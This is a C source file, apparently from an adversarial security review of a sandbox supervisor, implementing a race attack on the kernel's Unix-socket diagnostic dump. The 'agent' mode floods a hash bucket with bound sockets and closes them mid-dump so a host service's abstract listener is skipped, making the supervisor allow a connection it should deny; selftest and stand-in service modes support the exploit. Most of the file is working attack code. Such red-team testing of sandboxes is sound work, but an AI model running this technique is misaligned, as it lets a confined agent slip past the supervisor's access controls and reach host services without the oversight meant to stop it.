/* ha30-dumpskip.c (hostile review h-attack30, against 46adf47): a host
 * service's abstract listener made to vanish from the supervisor's
 * sock_diag dump, so its name is answered ECONNREFUSED (allowed, pass)
 * where the attempt is due a denial.
 *
 * The kernel's unix_diag_dump is not a snapshot: it fills one skb, stops,
 * and resumes in the next recv at (bucket, index within the bucket). A
 * socket removed meanwhile from the same bucket, before the resume point,
 * shifts the rest down by one, and the first one not yet sent is skipped.
 * The agent lays the dump out so that the first skb (NLMSG_GOODSIZE, made
 * in the supervisor's send() on its fresh socket) ends just before the
 * host's listener (listeners of its own, counted from /proc/net/unix,
 * which walks the same table in the same order: the agent may not open a
 * sock_diag socket), puts many bound (non-listening) sockets of its own in
 * the listener's hash bucket, ahead of it (unix_abstract_hash computed
 * here), and closes them one by one while it connects. Whichever dump the
 * closes land in (the first: nothing listed; or still_bound's second: "gone
 * since the first") misses the listener, and the name is answered
 * ECONNREFUSED without an act.
 *
 *   agent @NAME [K]     the agent: layout, churn, one connect to @NAME,
 *                       a line written if connected; prints what connect
 *                       said.
 *   selftest @NAME [K] [DUMPS]
 *                       no supervisor: binds @NAME itself (the host
 *                       stand-in), lays out (checked against a real dump),
 *                       churns, and runs DUMPS dumps like the supervisor's
 *                       (sv_unixdiag_bound); prints how many missed it.
 *   service @NAME MARK -- CMD...
 *                       stand-in host service: a stream listener on @NAME
 *                       (close-on-exec), what reaches it appended to MARK;
 *                       starts CMD, waits, exits with its status.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <linux/sock_diag.h>
#include <linux/unix_diag.h>
#include <poll.h>
#include <pthread.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static socklen_t name_of(struct sockaddr_un *a, const char *p)
{
	memset(a, 0, sizeof(*a));
	a->sun_family = AF_UNIX;
	memcpy(a->sun_path + 1, p, strlen(p));
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(p));
}

/* unix_abstract_hash (net/unix/af_unix.c): csum_fold(csum_partial(addr))
 * folded, ^ type, in buckets 256..511. */
static unsigned bucket_of(const char *p, int type)
{
	struct sockaddr_un a;
	socklen_t l = name_of(&a, p);
	const unsigned char *b = (const unsigned char *)&a;
	uint32_t sum = 0;
	unsigned h;

	for (socklen_t i = 0; i + 1 < l; i += 2)
		sum += (uint32_t)b[i] | (uint32_t)b[i + 1] << 8;
	if (l & 1)
		sum += b[l - 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	h = (~sum) & 0xffff;
	h ^= h >> 8;
	h ^= (unsigned)type;
	return 256 + (h & 255);
}

static int bind_name(int type, const char *p, int listening)
{
	struct sockaddr_un a;
	socklen_t l = name_of(&a, p);
	int s = socket(AF_UNIX, type | SOCK_CLOEXEC, 0);

	if (s < 0)
		return -1;
	if (bind(s, (struct sockaddr *)&a, l) != 0 || (listening && listen(s, 16) != 0)) {
		int e = errno;

		close(s);
		errno = e;
		return -1;
	}
	return s;
}

/* One dump as the supervisor's (unixdiag.c sv_unixdiag_bound): fresh
 * socket, listeners, names. Returns in which datagram (1, 2, ...) the
 * listener called target came, 0 when it did not, -1 on error; *first2 is
 * set to whether it was the first message of datagram 2. */
static int dump_find(const char *target, int *first2)
{
	struct {
		struct nlmsghdr nlh;
		struct unix_diag_req r;
	} req = {.nlh = {.nlmsg_len = sizeof(req),
			 .nlmsg_type = SOCK_DIAG_BY_FAMILY,
			 .nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP},
		 .r = {.sdiag_family = AF_UNIX,
		       .udiag_states = 1u << 10,
		       .udiag_show = UDIAG_SHOW_NAME}};
	static _Thread_local char buf[32768];
	size_t tl = strlen(target);
	int s = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_SOCK_DIAG), found = 0, dg = 0;

	if (first2)
		*first2 = 0;
	if (s < 0 || send(s, &req, sizeof(req), 0) < 0) {
		if (s >= 0)
			close(s);
		return -1;
	}
	for (;;) {
		ssize_t n = recv(s, buf, sizeof(buf), 0);
		struct nlmsghdr *h = (struct nlmsghdr *)buf;
		int idx = 0;

		if (n <= 0) {
			close(s);
			return -1;
		}
		dg++;
		for (; NLMSG_OK(h, (size_t)n); h = NLMSG_NEXT(h, n), idx++) {
			struct unix_diag_msg *m = NLMSG_DATA(h);
			int len = (int)h->nlmsg_len - (int)NLMSG_LENGTH(sizeof(*m));

			if (h->nlmsg_type == NLMSG_DONE || h->nlmsg_type == NLMSG_ERROR) {
				close(s);
				return found;
			}
			if (m->udiag_type != SOCK_STREAM)
				continue;
			for (struct rtattr *a = (struct rtattr *)(m + 1); RTA_OK(a, len);
			     a = RTA_NEXT(a, len)) {
				const char *v = RTA_DATA(a);

				if (a->rta_type == UNIX_DIAG_NAME && RTA_PAYLOAD(a) == tl + 1 &&
				    v[0] == '\0' && memcmp(v + 1, target, tl) == 0) {
					found = dg;
					if (first2 && dg == 2 && idx == 0)
						*first2 = 1;
				}
			}
		}
	}
}

/* The first datagram of a dump: NLMSG_GOODSIZE, made in send() on a
 * fresh socket (netlink_dump: max_recvmsg_len still 0). */
#define GOODSIZE (4096 - 320)

/* One listener's message: nlmsghdr and unix_diag_msg, UNIX_DIAG_NAME
 * (sun_path's bytes as bound), UNIX_DIAG_SHUTDOWN (sk_diag_fill). */
static int msg_size(size_t name_bytes)
{
	return 16 + 16 + (int)((4 + name_bytes + 3) & ~3ul) + 8;
}

/* Bytes of the listener messages that come before target in a dump,
 * from /proc/net/unix (the same hash table, walked in the same order), or
 * -1 when target is not there. */
static int ahead_bytes(const char *target)
{
	FILE *f = fopen("/proc/net/unix", "r");
	char line[512];
	int total = 0;

	if (!f)
		return -1;
	(void)!fgets(line, sizeof(line), f);
	while (fgets(line, sizeof(line), f)) {
		unsigned long flags = 0;
		unsigned type = 0, st = 0;
		unsigned long ino = 0;
		char path[256] = "";
		int nf =
		    sscanf(line, "%*s %*s %*s %lx %x %x %lu %255s", &flags, &type, &st, &ino, path);

		if (nf < 4 || !(flags & 0x10000))
			continue;
		if (path[0] == '@' && strcmp(path + 1, target) == 0 && type == SOCK_STREAM) {
			fclose(f);
			return total;
		}
		/* Bound by path: the name and its NUL; abstract: '@' for the
		 * leading NUL; unbound: no name attribute. */
		if (nf == 5)
			total += msg_size(path[0] == '@' ? strlen(path) : strlen(path) + 1);
		else
			total += 16 + 16 + 8;
	}
	fclose(f);
	return -1;
}

static int *xs;
static int nx;
static volatile int churn_go, churn_done;

static void *churn(void *arg)
{
	(void)arg;
	while (!churn_go)
		;
	for (int i = nx - 1; i >= 0; i--) {
		close(xs[i]);
		for (volatile int d = 0; d < 200; d++)
			;
	}
	churn_done = 1;
	return NULL;
}

/* The layout: K bound sockets ahead of the target in its bucket, and
 * listeners ahead of it in the dump until the first datagram no longer
 * holds it. */
static int layout(const char *target, int k, int verify)
{
	unsigned b = bucket_of(target, SOCK_STREAM);
	struct rlimit rl = {k + 4096, k + 4096};
	char nm[64];
	unsigned long seq = 0;
	int dg, first2 = 0, fillers = 0;

	setrlimit(RLIMIT_NOFILE, &rl);
	srandom((unsigned)getpid() ^ (unsigned)time(NULL));
	xs = calloc((size_t)k, sizeof(int));
	for (nx = 0; nx < k;) {
		/* Names of random bytes: a counter's checksums cluster. */
		snprintf(nm, sizeof(nm), "x%08lx", (unsigned long)random());
		seq++;
		if (bucket_of(nm, SOCK_STREAM) != b)
			continue;
		xs[nx] = bind_name(SOCK_STREAM, nm, 0);
		if (xs[nx] < 0 && errno == EADDRINUSE)
			continue;
		if (xs[nx] < 0) {
			perror("layout: bind x");
			return -1;
		}
		nx++;
	}
	/* Fillers: listeners with names as long as the target's, in buckets
	 * up to its own (so dumped before it), added until the listeners
	 * ahead of it no longer leave it room in the first datagram: that
	 * one ends just before it. The agent may not open a sock_diag socket
	 * (unsupported-socket): /proc/net/unix lists the same table in the
	 * same order, and the sizes are the kernel's. */
	while ((dg = ahead_bytes(target)) >= 0 && dg + msg_size(strlen(target) + 1) <= GOODSIZE) {
		do {
			snprintf(nm, sizeof(nm), "f%0*lx", (int)strlen(target) - 1,
				 (unsigned long)random() & 0xfffffffful);
			nm[strlen(target)] = '\0';
			seq++;
		} while (bucket_of(nm, SOCK_STREAM) > b);
		if (bind_name(SOCK_STREAM, nm, 1) < 0) {
			if (errno == EADDRINUSE)
				continue;
			perror("layout: bind filler");
			return -1;
		}
		fillers++;
	}
	if (dg < 0) {
		fprintf(stderr, "layout: target not in /proc/net/unix\n");
		return -1;
	}
	fprintf(stderr, "layout: %d bytes of listeners ahead\n", dg);
	if (verify)
		dg = dump_find(target, &first2);
	else
		dg = 2, first2 = 1;
	fprintf(stderr, "layout: bucket %u, %d ahead in it, %d fillers, target in datagram %d%s\n",
		b, nx, fillers, dg, first2 ? " (first)" : "");
	return dg == 2 && first2 ? 0 : -1;
}

static int selftest(const char *target, int k, int dumps)
{
	pthread_t t;
	int h = bind_name(SOCK_STREAM, target, 1), missed = 0, done = 0;

	if (h < 0 || layout(target, k, 1) != 0)
		return 2;
	pthread_create(&t, NULL, churn, NULL);
	churn_go = 1;
	while (!churn_done && done < dumps) {
		int dg = dump_find(target, NULL);

		missed += dg == 0;
		done++;
	}
	pthread_join(t, NULL);
	printf("selftest: %d of %d dumps during the churn missed the listener\n", missed, done);
	return 0;
}

static int agent(const char *target, int k)
{
	struct sockaddr_un a;
	socklen_t l = name_of(&a, target);
	pthread_t t;
	int s, rc, e;

	if (layout(target, k, 0) != 0) {
		fprintf(stderr, "agent: layout failed\n");
		return 2;
	}
	s = socket(AF_UNIX, SOCK_STREAM, 0);
	pthread_create(&t, NULL, churn, NULL);
	churn_go = 1;
	for (volatile int d = 0; d < 20000; d++)
		;
	rc = connect(s, (struct sockaddr *)&a, l);
	e = errno;
	printf("agent: connect @%s: %s (churn %s)\n", target, rc == 0 ? "connected" : strerror(e),
	       churn_done ? "over" : "still going");
	if (rc == 0)
		(void)!write(s, "agent was here", 14);
	pthread_join(t, NULL);
	return 0;
}

static int service(int argc, char **argv)
{
	int ls = bind_name(SOCK_STREAM, argv[1], 1), status = 0;
	pid_t job;

	if (ls < 0 || argc < 5 || strcmp(argv[3], "--") != 0)
		return 2;
	job = fork();
	if (job == 0) {
		execvp(argv[4], argv + 4);
		_exit(127);
	}
	for (;;) {
		struct pollfd p = {.fd = ls, .events = POLLIN};
		char buf[256];

		if (waitpid(job, &status, WNOHANG) == job)
			break;
		if (poll(&p, 1, 50) <= 0)
			continue;
		int c = accept(ls, NULL, NULL);

		if (c >= 0) {
			struct pollfd q = {.fd = c, .events = POLLIN};
			ssize_t n = poll(&q, 1, 500) > 0 ? read(c, buf, sizeof(buf)) : 0;
			FILE *f = fopen(argv[2], "a");

			if (f) {
				fprintf(f, "stream: %.*s\n", n > 0 ? (int)n : 0, buf);
				fclose(f);
			}
			close(c);
		}
	}
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

int main(int argc, char **argv)
{
	if (argc >= 2 && strcmp(argv[1], "service") == 0 && argc >= 6 && argv[2][0] == '@')
		return argv[2]++, service(argc - 1, argv + 1);
	if (argc >= 3 && argv[2][0] == '@') {
		int k = argc >= 4 ? atoi(argv[3]) : 30000;

		if (strcmp(argv[1], "agent") == 0)
			return agent(argv[2] + 1, k);
		if (strcmp(argv[1], "selftest") == 0)
			return selftest(argv[2] + 1, k, argc >= 5 ? atoi(argv[4]) : 1000);
	}
	return 2;
}
